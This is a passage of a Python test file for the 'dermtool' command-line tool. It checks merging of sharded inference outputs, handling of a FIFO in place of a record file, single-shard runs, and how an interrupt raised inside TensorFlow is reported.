    assert len(record["engine_sha1"]) == 40
    (out / "infer.shard2of2.json").write_text(json.dumps({**record, "engine_sha1": "0" * 40}))
    _merge_refused(out, "infer.shard2of2.json", "engine_sha1")


def test_a_fifo_where_a_record_is_read_is_one_line_not_a_hang(plain, tmp_path):
    out = Path(shutil.copytree(plain, tmp_path / "out"))
    (out / "infer.shard2of2.json").unlink()
    os.mkfifo(out / "infer.shard2of2.json")
    _merge_refused(out, "infer.shard2of2.json", "is empty")


def test_merge_of_a_one_part_run_has_nothing_to_do(models, reference, tmp_path):  # noqa: F811
    # a SLURM array of one task (--array=0-0) writes predictions.csv itself; its merge job failed
    out = tmp_path / "out"
    _infer_ok(reference["images"], "--out", out, "--model", models["joint"], "--shard", "1/1")
    before = (out / "predictions.csv").read_bytes()
    result = runner.invoke(app, ["merge", str(out)])
    assert result.exit_code == 0 and "nothing to merge" in result.output, result.output
    assert (out / "predictions.csv").read_bytes() == before


def test_an_interrupt_that_comes_out_of_tensorflow_as_another_exception_is_still_a_stop(tmp_path, monkeypatch):
    # a SIGTERM landing inside TensorFlow's C code came out as SystemError ("bad argument to
    # internal function"): a traceback and exit 1 where the scheduler should see 130
    import dermtool.cli as cli
    import dermtool.train

    def stopped_inside_tensorflow(*args, **kwargs):
        monkeypatch.setattr(cli, "_STOP_ASKED", True)  # as the signal handler sets it
        raise SystemError("Objects/listobject.c:338: bad argument to internal function")

    from dermtool.data import build_cache, resolve_layout
    from dermtool.synthetic import write_dataset

    monkeypatch.setattr(dermtool.train, "train", stopped_inside_tensorflow)
    cache = tmp_path / "cache"
    build_cache(resolve_layout(write_dataset(tmp_path / "data", 4, rng_seed=1, sizes=[(40, 40)], formats=("png",))),
                cache, size=32, progress=False)
    result = runner.invoke(app, ["train", str(cache), "--out", str(tmp_path / "run"), "--epochs", "1"])
    assert result.exit_code == 130, result.output
    assert "interrupted" in result.output and "Traceback" not in result.output

    def failing(*args, **kwargs):  # without a stop asked, a failure stays one, with its traceback
        raise SystemError("a real failure")

    monkeypatch.setattr(dermtool.train, "train", failing)
    result = runner.invoke(app, ["train", str(cache), "--out", str(tmp_path / "run2"), "--epochs", "1"])
    assert isinstance(result.exception, SystemError) and result.exit_code == 1
